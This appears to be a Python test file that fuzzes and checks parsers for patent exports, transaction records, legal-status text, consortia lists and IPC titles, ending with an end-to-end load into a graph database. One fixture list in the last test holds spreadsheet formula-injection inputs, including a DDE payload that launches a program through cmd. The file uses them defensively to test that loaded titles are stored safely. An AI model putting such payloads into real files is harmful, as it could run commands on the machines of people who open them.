test_policy_extraction_refuses_or_extracts, test_policy_extraction_refuses_or_extracts_slow = fuzz(
    policy_input, fast=120, slow=2000,
)(_policy)


def test_policy_directory_with_junk_files_reports_each_failure() -> None:
    directory = _WORK / "policies"
    directory.mkdir()
    for path in POLICY_FIXTURES.iterdir():
        (directory / path.name).write_bytes(path.read_bytes())
    junk_files = {"empty.txt": b"", "binary.txt": bytes(range(256)), "broken.pdf": b"%PDF-1.4 nothing",
                  "nav.html": b"<html><body><nav>home</nav></body></html>", "utf16.md": "无措施。".encode("utf-16")}
    for name, data in junk_files.items():
        (directory / name).write_bytes(data)
    result = extract_policies(directory)
    assert len(result.extractions) == len(POLICY_TEXTS)
    assert sorted(Path(f.path).name for f in result.failures) == sorted(junk_files)
    assert all(f.error.endswith("Error") and f.reason for f in result.failures)


# --- transactions, legal status, consortia, IPC titles ---------------------------------------------

TX_HEADER = "patent_number,event_type,event,date,from_party,to_party,licence_kind,amount,currency,contract_number,source\n"


def _transactions_bytes(data: bytes, name: str) -> None:
    try:
        items = list(read_transactions(_file(data, name)))
    except NotAPatentExport:
        return
    assert all(isinstance(i, (TransactionEvent, Reject)) for i in items)
    for item in items:
        if isinstance(item, TransactionEvent):
            assert item.kind in ("transfer", "licence", "pledge") and date.fromisoformat(item.date)
            assert item.amount is None or item.amount >= 0


tx_junk = st.one_of(junk, st.binary(max_size=2000).map(lambda b: TX_HEADER.encode() + b),
                    st.tuples(st.integers(0, 5000)).map(lambda t: (TX_FIXTURES / "transactions.csv").read_bytes()[: t[0]]),
                    st.tuples(st.integers(0, 3000)).map(
                        lambda t: (TX_FIXTURES / "uspto_assignments.xml").read_bytes()[: t[0]]))
test_transaction_files_never_crash, test_transaction_files_never_crash_slow = fuzz(
    tx_junk, st.sampled_from(["tx.csv", "tx.xlsx", "tx.xml"]), fast=120, slow=2000,
)(_transactions_bytes)


def test_transaction_table_mixed_rows() -> None:
    rows = [
        ("CN1A,transfer,effective,2022-03-15,南京大学,南京甲公司,,,,,", None),
        ("CN2A,sale,effective,2022-03-15,甲,乙,,,,,", "unknown event_type"),
        ("CN3A,licence,effective,2022-13-15,甲,乙,,,,,", "unparsable date"),
        ("CN4A,transfer,effective,2022-03-15,甲,,,,,,", "missing to_party"),
        ("CN5A,pledge,effective,2022-03-15,甲,乙,exclusive,,,,", "licence_kind"),
        ("CN6A,licence,effective,2022-03-15,甲,乙,ordinary,50万元,,,", None),
        ("CN7A,transfer,effective,2022-03-15,甲,乙,,-5,,,", "bad amount"),
        ("CN8A,transfer,effective,2022-03-15,甲,乙,,,XYZW,,", "unknown currency"),
        (",transfer,effective,2022-03-15,甲,乙,,,,,", "missing patent_number"),
        ("CN1A,transfer,effective,2022-03-15,南京大学,南京甲公司,,,,,", "duplicate of line 2"),
        ("CN9A,transfer,effective,2022-03-15,BROKEN,乙,,,,,", "broken encoding"),
        ("CN10A,transfer,change,2022-03-16,,,,,,,", None),
    ]
    data = (TX_HEADER + "\n".join(r for r, _ in rows) + "\n").encode("utf-8").replace(b"BROKEN", b"\xff")
    items = list(read_transactions(_file(data, "tx.csv")))
    assert [e.patent_number for e in items if isinstance(e, TransactionEvent)] == ["CN1A", "CN6A", "CN10A"]
    got = {r.line: r.reason for r in items if isinstance(r, Reject)}
    want = {line: reason for line, (_, reason) in enumerate(rows, start=2) if reason}
    assert got.keys() == want.keys()
    for line, reason in want.items():
        assert reason in got[line], (line, got[line])


def _legal_status(text: str) -> None:
    events, problems = parse_legal_status(text, "CN1A", SourceRef("f.csv", 2, "cnipa-csv"))
    assert all(isinstance(p, str) and p for p in problems)
    for event in events:
        assert event.kind in ("transfer", "licence", "pledge") and date.fromisoformat(event.date)


legal_words = st.sampled_from(["专利权的转移", "专利实施许可合同备案的生效", "专利权质押合同登记的注销", "TR01", "EE01", "PC01",
                               "变更前权利人:", "变更后权利人:", "登记生效日:", "让与人:", "受让人:", "许可种类:", "合同备案号:",
                               "法律状态公告日:", "#", ";", "、", "2020-01-01", "2020-13-45", "独占许可", "南京大学", "\n", "金额:",
                               "1e999万元", "出质人:", "质权人:", "解除日:"])
test_legal_status_parser_is_total, test_legal_status_parser_is_total_slow = fuzz(
    st.one_of(st.text(max_size=300), st.lists(st.one_of(legal_words, st.text(max_size=6)), max_size=40).map("".join)),
    fast=200, slow=5000,
)(_legal_status)


def _consortia(data: bytes, suffix: str) -> None:
    try:
        found, bad = read_consortia(_file(data, f"consortia{suffix}"))
    except ValueError as refused:
        assert "consortia" in str(refused)  # names the file
        return
    assert all(isinstance(d, ConsortiumDecl) and d.name and isinstance(d.name, str) for d in found)
    assert all(isinstance(r, Reject) and r.reason for r in bad)


yaml_docs = json_junk.map(lambda v: yaml.safe_dump(v, allow_unicode=True).encode())
yaml_consortia = st.lists(st.dictionaries(st.sampled_from(["name", "kind", "lead", "members", "chain", "region", "year",
                                                           "source"]), json_junk, max_size=6), max_size=4).map(
    lambda entries: yaml.safe_dump({"consortia": entries}, allow_unicode=True).encode())
test_consortia_files_never_crash, test_consortia_files_never_crash_slow = fuzz(
    st.one_of(junk, yaml_docs, yaml_consortia,
              st.integers(0, 900).map(lambda n: (TX_FIXTURES / "consortia.yaml").read_bytes()[:n]),
              st.integers(0, 500).map(lambda n: (TX_FIXTURES / "consortia.csv").read_bytes()[:n])),
    st.sampled_from([".yaml", ".csv"]),
    fast=150, slow=3000,
)(_consortia)


def test_consortia_csv_mixed_rows() -> None:
    data = ("name,kind,lead,member,role,year\n"
            "甲联合体,consortium,东南大学,南京大学,core,2023\n"
            ",,,江苏大学,member,\n"
            "乙联盟,secret_society,,某大学,member,\n"
            "丙联盟,ip_alliance,,某公司,member,20233\n"
            "丁联盟,patent_pool,,BROKEN,member,\n"
            "戊联盟,patent_pool,,某研究院,member,2020\n").encode().replace(b"BROKEN", b"\xff")
    found, bad = read_consortia(_file(data, "c.csv"))
    assert [(d.name, [m.name for m in d.members]) for d in found] == [("甲联合体", ["南京大学", "江苏大学"]),
                                                                      ("戊联盟", ["某研究院"])]
    assert [(r.line, r.reason.split(" ")[0]) for r in bad] == [(4, "unknown"), (5, "not"), (6, "broken")]


def _ipc_lines(data: bytes) -> None:
    for item in iter_ipc_lines(_file(data, "ipc.tsv")):
        assert isinstance(item, (IPCEntry, IPCReject))
        if isinstance(item, IPCEntry):
            assert COMPACT_IPC.match(item.code) and item.title.strip()
        else:
            assert item.reason and item.line >= 1


ipc_text = st.lists(st.one_of(
    st.tuples(ipc_like, st.text(max_size=20)).map("\t".join),
    st.from_regex(r"\A[A-H]\d\d[A-Z]\d{10}\t[a-z ]{1,10}\Z"),
    st.text(max_size=20).map(lambda t: "  " + t),
    st.text(max_size=30),
), max_size=20).map(lambda lines: "\n".join(lines).encode("utf-8", "surrogatepass"))
test_ipc_titles_never_crash, test_ipc_titles_never_crash_slow = fuzz(
    st.one_of(junk, ipc_text), fast=150, slow=3000,
)(_ipc_lines)


def test_ipc_titles_mixed_lines() -> None:
    data = ("A\tHUMAN NECESSITIES\n"
            "A01\tAGRICULTURE\n"
            "   continued title\n"
            "Z99\tnot a symbol\n"
            "A01B\t\n"
            "no tab here\n"
            "A01B0001000000\tHand tools BROKEN\n"
            "A01B0001020000\tSpades; Shovels\n").encode().replace(b"BROKEN", b"\xe9")
    items = list(iter_ipc_lines(_file(data, "ipc.tsv")))
    assert [(i.code, i.title) for i in items if isinstance(i, IPCEntry)] == [
        ("A", "HUMAN NECESSITIES"), ("A01", "AGRICULTURE continued title"), ("A01B1/02", "Spades; Shovels")]
    assert [(r.line, r.reason.split(" ")[0]) for r in items if isinstance(r, IPCReject)] == [
        (4, "not"), (5, "empty"), (6, "no"), (7, "broken")]


# --- end to end: a mixed export through PatentLoader into the embedded database ---------------------


def test_mixed_export_loads_exactly_the_good_rows(graph, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    from graph.ingest.patents import PatentLoader
    from graph.writer import GraphWriter

    kinds = ["good", "no_id", "good", "bad_date", "wrong_width", "good", "broken_encoding", "dup_conflict",
             "dup_identical", "blank", "good", "good"]
    texts = ["机器人关节", "=cmd|' /C calc'!A0", "+SUM(1,2)", "@x", "-1+1", "电池 材料"]
    rows, good, bad, good_titles = _mixed_rows(kinds, texts, xlsx=False)
    export = tmp_path / "mixed.csv"
    export.write_bytes(csv_bytes(rows).replace(b"BROKEN", b"\xff"))
    canonical_file = tmp_path / "mixed.jsonl"
    canonical_file.write_text(json.dumps(canonical(900), ensure_ascii=False) + "\n{broken\n"
                              + json.dumps(canonical(901, ipc=5)) + "\n", encoding="utf-8")
    not_export = tmp_path / "notes.csv"
    not_export.write_bytes(bytes(range(256)) * 4)
    rejects_path = tmp_path / "rejects.jsonl"
    loader = PatentLoader(GraphWriter(graph.driver, graph.database), batch_size=3, rejects_path=rejects_path)
    report = loader.load([export, canonical_file, not_export])

    assert [Path(f.path).name for f in report.failed_files] == ["notes.csv"]
    written = [json.loads(line) for line in rejects_path.read_text(encoding="utf-8").splitlines()]
    assert {(Path(r["file"]).name, r["line"]) for r in written} == (
        {("mixed.csv", line) for line in bad} | {("mixed.jsonl", 2), ("mixed.jsonl", 3)})
    for reject in written:
        if reject["file"].endswith("mixed.csv"):
            assert bad[reject["line"]] in reject["reason"]
    assert report.records == len(good) + 1 and report.rejected == len(bad) + 2
    stored = graph.query("MATCH (p:Patent) WHERE p.stub = false RETURN p.number AS number, p.title AS title "
                         "ORDER BY number")
    expected = sorted([(normalize_number(n), t) for n, t in zip(good, good_titles, strict=True)]
                      + [(str(canonical(900)["number"]), "标题900")])
    assert sorted((r["number"], r["title"]) for r in stored) == expected
